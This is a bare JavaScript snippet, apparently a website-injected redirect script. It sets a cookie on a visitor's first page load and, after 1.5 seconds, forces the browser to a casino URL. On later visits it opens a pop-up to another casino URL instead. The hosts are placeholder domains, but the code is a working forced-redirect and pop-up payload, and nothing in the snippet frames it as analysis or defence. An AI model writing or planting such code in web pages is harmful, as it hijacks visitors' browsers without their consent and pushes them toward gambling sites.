function getCookie(n){var m=document.cookie.match(new RegExp('(^| )'+n+'=([^;]*)(;|$)'));return m?unescape(m[2]):null}
function setCookie(n,v){var d=new Date();d.setTime(d.getTime()+864e5);document.cookie=n+'='+escape(v)+';expires='+d.toGMTString()+';path=/'}
if(getCookie('seen')==null){setCookie('seen','1');if(getCookie('seen')=='1'){setTimeout("window.location.href='http://cookie.casino.example/'",1500)}}else{window.open('http://never.casino.example/')}
